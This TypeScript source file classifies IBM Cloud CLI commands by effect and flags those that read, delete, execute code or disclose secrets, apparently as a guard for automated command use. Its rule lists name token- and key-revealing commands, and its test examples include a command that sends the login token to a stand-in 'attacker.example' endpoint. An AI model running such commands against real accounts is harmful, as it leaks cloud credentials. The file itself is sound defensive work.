import { defineTool, discloses, flags, unlike, values } from "../tool.ts";
import { groupsOf, type Judging } from "./_command-trees.ts";

/** Reading commands and the changing ones beside them, by the references of the CLI and its plug-ins; others are a doubt. */
const table: Readonly<Record<string, string>> = {
  account:
    "show list users update user-invite user-remove orgs spaces audit-logs org-users org-roles space-users space-roles org-role-set space-role-set",
  billing: "account-usage org-usage resource-group-usage resource-instances-usage",
  catalog:
    "search service entry entry-create entry-update entry-delete entry-visibility offering(list get) locations runtime service-marketplace template",
  cdb: `deployables-show|deployables deployment-about|about deployment-groups|groups deployment-tasks|tasks deployment-connections|connections|cxn
    deployment-cacert|cacert deployment-whitelist-list deployment-allowlist-list backups-list|backups backup-show backup-now regions-list|regions user-password
    deployment-user-create deployment-user-delete deployment-groups-set read-replica-promote task-show`,
  ce: `application|app(list get create update delete logs events restart bind unbind) job(list get create update delete) jobrun(list get submit delete logs events restart resubmit)
    project(list get current create select delete target) build(list get create update delete) buildrun(list get submit delete logs events cancel)
    configmap(list get create update delete) secret(list get create update delete) registry(list get create delete) revision(list get delete logs events)
    subscription(cos(list get) cron(list get) kafka(list get)) function|fn(list get create update delete) version`,
  cf: "apps|a app services|s service orgs spaces domains routes events logs env push delete restart restage stop start scale",
  cis: "instances|instance-list domains domain dns-records dns-record dns-record-create dns-record-delete dns-record-update glbs glb glb-pools glb-pool firewall-rules firewall-rule tls-settings certificates waf-settings page-rules metrics cache-purge overview",
  cos: "buckets|list-buckets objects|list-objects list-objects-v2 bucket-head|head-bucket object-head|head-object bucket-location-get bucket-class-get config(list crn region auth) object-get|get-object object-put|put-object object-delete bucket-create bucket-delete upload download",
  config: "",
  cr: "namespace-list|namespaces images|image-list|digests image-inspect|inspect quota plan info region vulnerability-assessment|va vulnerability-assessment-list retention-policy-list trash-list api exemption-list image-rm image-tag image-restore namespace-add namespace-rm login private-only",
  dev: "list view",
  dl: "gateways gateway locations ports virtual-connections",
  dns: "instances instance zones zone resource-records resource-record permitted-networks glbs glb pools monitors zone-create zone-delete resource-record-create resource-record-delete",
  fn: "list action(list get invoke create update delete) trigger(list get fire) package(list get) rule(list get) activation(list get logs result poll) namespace(list get) property(get set)",
  help: "",
  iam: `users users-groups access-groups access-group access-group-users access-group-policies access-group-policy access-policy-templates roles role services service-ids|sids
    service-id service-policies service-policy user-policies user-policy authorization-policies authorization-policy api-keys api-key service-api-keys service-api-key oauth-tokens
    account-settings trusted-profiles|tps trusted-profile|tp trusted-profile-policies dedicated-id-show api-key-create api-key-delete access-group-create
    access-group-delete access-group-user-add user-policy-create user-policy-delete service-id-create service-id-delete authorization-policy-create`,
  is: `instances|ins instance|in vpcs vpc subnets subnet subnet-reserved-ips volumes|vols volume|vol floating-ips|ips floating-ip|ip security-groups|sgs security-group|sg
    security-group-rules|sg-rules load-balancers|lbs load-balancer|lb load-balancer-listeners|lb-ls load-balancer-pools|lb-ps load-balancer-statistics|lb-stats network-acls|acls network-acl|acl network-acl-rules
    public-gateways|pubgws public-gateway|pubgw vpn-gateways vpn-gateway vpn-gateway-connections images|imgs image|img keys key zones regions instance-profiles instance-profile
    instance-network-interfaces|in-nics instance-volume-attachments dedicated-hosts dedicated-host snapshots snapshot flow-logs endpoint-gateways bare-metal-servers|bms bare-metal-server|bm
    vpc-routes vpc-routing-tables vpc-address-prefixes volume-profiles operating-systems instance-templates instance-groups placement-groups shares backup-policies target
    instance-create instance-delete instance-stop instance-start instance-reboot instance-update vpc-create vpc-delete subnet-create subnet-delete volume-create volume-delete
    floating-ip-reserve floating-ip-release security-group-rule-add security-group-rule-delete snapshot-create snapshot-delete instance-console instance-initialization-values key-create key-delete`,
  kms: "keys(--) key(show) instances",
  kp: "keys key(show rotate create delete import) key-rings(--) instance(policies) registrations",
  ks: `clusters cluster(ls get config create rm master(refresh update audit-webhook(get)) addon(ls get enable disable versions) subnet(ls) service(ls bind) image-security ca(status rotate) pull-secret(apply))
    worker(ls get reboot reload replace update rm) worker-pool(ls get zones create rm resize rebalance) workers versions|kube-versions flavor(ls get) flavors zone(ls) zones subnets vlan(ls) vlans locations supported-locations
    ingress(alb(ls get) domain(ls get) secret(ls get) status status-report(get ignored-errors)) alb(ls get) albs nlb-dns(ls get) logging(config(get)) storage(attachment(ls get) volume(ls get) profile(ls)) api-key(info reset) credential(get set) quota(ls) messages vpc(ls) vpcs infra-permissions(get) webhook-create init`,
  la: "",
  login: "",
  logout: "",
  plugin: "list show repo-plugins repos install uninstall update repo-add repo-remove",
  regions: "",
  resource: `groups group quotas quota service-instances service-instance service-aliases service-alias service-bindings service-keys service-key search subscriptions
    service-instance-create service-instance-delete service-instance-update service-key-create service-key-delete group-create group-update tags tag-attach tag-detach
    locks lock-list reclamations reclamation-delete reclamation-restore`,
  sat: "location(ls get create rm) locations host(ls get assign rm) hosts cluster(ls get) clusters config(ls get) configs service(ls) endpoint(ls get) group(ls get)",
  schematics:
    "workspace(list get action output state(list show pull)) workspaces output state(list pull) logs plan apply destroy refresh version job(list get logs) action(list get) agent(list get)",
  "secrets-manager":
    "secrets secret secret-metadata secret-version secret-versions secret-groups secret-group configurations configuration secret-create secret-delete",
  sl: `vs(list detail cancel create reboot power-off power-on credentials options) hardware(list detail cancel reboot) block(volume-list volume-detail access-list snapshot-list volume-cancel) file(volume-list volume-detail snapshot-list)
    vlan(list detail) subnet(list detail) dns(zone-list record-list zone-print) globalip(list) loadbal(list detail) firewall(list detail) image(list detail) order(package-list category-list item-list) ticket(list detail) security(key-list cert-list) user(list detail) account(events invoices summary) event-log(get) call-api`,
  tg: "gateways|gws gateway|gw connections|cs connection|cc locations|ls gateway-create gateway-delete",
  update: "",
  version: "",
};

/** Last words of reading commands: verbs, and where a command is called after what it shows, its plural or name. */
const reading = `
    a about access-group access-group-policies access-group-policy access-group-users access-groups access-list access-policy-
    templates account-settings account-usage acl acls albs api-key api-keys app apps audit-logs authorization-policies authorization-
    policy backup-policies backup-show backups backups-list bare-metal-server bare-metal-servers bm bms bucket-class-get bucket-head
    bucket-location-get buckets cacert category-list cc cert-list certificates clusters configs configurations connection connections
    cs current dedicated-host dedicated-hosts dedicated-id-show deployables deployables-show deployment-about deployment-allowlist-
    list deployment-cacert deployment-groups deployment-tasks deployment-whitelist-list detail digests dns-record dns-records domain
    domains endpoint-gateways entry events exemption-list firewall-rule firewall-rules flavors floating-ip floating-ips flow-logs
    gateway gateways get glb glb-pool glb-pools glbs group groups gw gws head-bucket head-object help hosts ignored-errors image
    image-inspect image-list image-security images img imgs in in-nics info ins inspect instance instance-groups instance-list
    instance-network-interfaces instance-profile instance-profiles instance-templates instance-volume-attachments instances invoices
    ip ips item-list key key-list keys kube-versions lb lb-ls lb-ps lb-stats lbs list list-buckets list-objects list-objects-v2 load-
    balancer load-balancer-listeners load-balancer-pools load-balancer-statistics load-balancers locations lock-list locks logs ls
    messages metrics monitors namespace-list namespaces network-acl network-acl-rules network-acls object-head objects operating-
    systems options org-roles org-usage org-users orgs overview package-list page-rules permitted-networks placement-groups policies
    pools ports pubgw pubgws public-gateway public-gateways quota quotas reclamations record-list regions regions-list registrations
    repos resource-group-usage resource-instances-usage resource-record resource-records retention-policy-list role roles routes
    runtime s search secret-group secret-groups secret-metadata secret-versions secrets security-group security-group-rules security-
    groups service service-alias service-aliases service-api-key service-api-keys service-bindings service-id service-ids service-
    instance service-instances service-marketplace service-policies service-policy services sg sg-rules sgs shares show sids snapshot
    snapshot-list snapshots space-roles space-users spaces status subnet subnet-reserved-ips subnets subscriptions summary supported-
    locations tags task-show tasks template tls-settings tp tps trash-list trusted-profile trusted-profile-policies trusted-profiles
    user-policies user-policy users users-groups va version versions view virtual-connections vlans vol vols volume volume-detail
    volume-list volume-profiles volumes vpc vpc-address-prefixes vpc-routes vpc-routing-tables vpcs vpn-gateway vpn-gateway-
    connections vpn-gateways vulnerability-assessment vulnerability-assessment-list waf-settings workers workspaces zone zone-list
    zone-print zones
  `.trim();

/** Every group tells of itself. */
const groups = Object.fromEntries(Object.entries(table).map(([name, commands]) => [name, commands === "" ? "" : `${commands} help`]));

const judging: Judging = {
  rules: [
    [
      "disclose secret",
      `
      iam oauth-tokens
      iam *api-key-create
      resource service-key
      resource service-keys
      resource service-key-create
      cdb *connections
      cdb cxn
      secrets-manager secret
      secrets-manager secret-version
      secrets-manager configuration
      sl vs credentials
      is instance-initialization-values
      is key-create
      ks * secret get
      ks credential get
      k* key show
      ce secret get
      ce registry get
      cf env
      schematics state pull
      schematics workspace state *
      schematics *output
      fn activation result
      is instance-console
      cos config *
      fn property get
      `,
    ],
    ["read database-rows", "cos *object-get\ncos get-object\ncos download\naccount users\n* activation get\nfn activation poll\n"],
    [
      "write configuration",
      "login\nlogout\ntarget\nis target\nconfig\napi\nupdate\nplugin install\nplugin uninstall\nplugin update\nplugin repo-*\n* cluster config\nks init\ncr login\ncr region\nce project select\nce project target\nfn property set\n",
    ],
    ["delete cluster", "ks cluster rm\nsat cluster rm\n"],
    ["write cloud-resource", "sl call-api\ncr *-add\n* credential set\n* reset\nresource tag-*\n"],
    ["execute code", "ce jobrun submit\nce buildrun submit\nfn action invoke\nfn trigger fire\n"],
  ],
  reads: new RegExp(`^(?:${reading.split(/\s+/).join("|")})$`),
  backups: /snapshot-delete$/,
};

export default defineTool({
  name: "ibmcloud, ic, bx",
  source: "IBM Cloud CLI 2.30 and plug-in references, cloud.ibm.com/docs/cli",
  options: {
    ...flags("-v|--version -q|--quiet -h|--help"),
    "--api-endpoint": {
      takes: "value",
      does: [
        discloses("secret:token for {--api-endpoint}", unlike("--api-endpoint", /^(?:https:\/\/)?(?:[\w-]+\.)*cloud\.ibm\.com(?:\/|$)/)),
      ],
    },
    ...values("--color"),
  },
  withoutCommand: "help",
  commands: {
    // Without options it says what is chosen.
    "target, api": {
      optionsOnlyRead: true,
      operands: ["word*"],
      derive: ({ words }, engine) => {
        if (words.length > 0) engine.effect("write", "configuration:ibmcloud target");
      },
    },
  },
  target: { family: "cloud", values: { provider: "ibmcloud" } },
  find: groupsOf(groups, judging),
  examples: {
    allow: [
      "ibmcloud ks cluster ls",
      "ibmcloud is instances",
      "ibmcloud resource service-instances --output json",
      "ibmcloud ks worker get --cluster c --worker w",
      "ibmcloud iam access-groups",
      "ibmcloud cr images",
      "ibmcloud regions",
      "ibmcloud target",
      "ibmcloud ks clusters",
      "ibmcloud is help",
      "ibmcloud --api-endpoint https://cloud.ibm.com account show",
    ],
    guard: {
      "ibmcloud --color list is instance-delete web": ["write cloud-resource:is instance-delete web"],
      "ibmcloud ks cluster rm --cluster prod": ["delete cluster:ks cluster rm prod"],
      "ibmcloud iam oauth-tokens": ["disclose secret:iam oauth-tokens"],
      "ibmcloud target -r eu-de": ["write configuration:ibmcloud target"],
      "ibmcloud cf push": ["write cloud-resource:cf push"],
      "ibmcloud is snapshot-delete s": ["write cloud-resource:is snapshot-delete s"],
      "ibmcloud --api-endpoint https://attacker.example account show": ["disclose secret:token for https://attacker.example"],
      "ibmcloud ce jobrun submit --job j": ["execute code:ce jobrun submit j"],
    },
    doubt: { "ibmcloud frobnicate": "unknown-command", "ibmcloud ks $X": "dynamic-word" },
  },
});
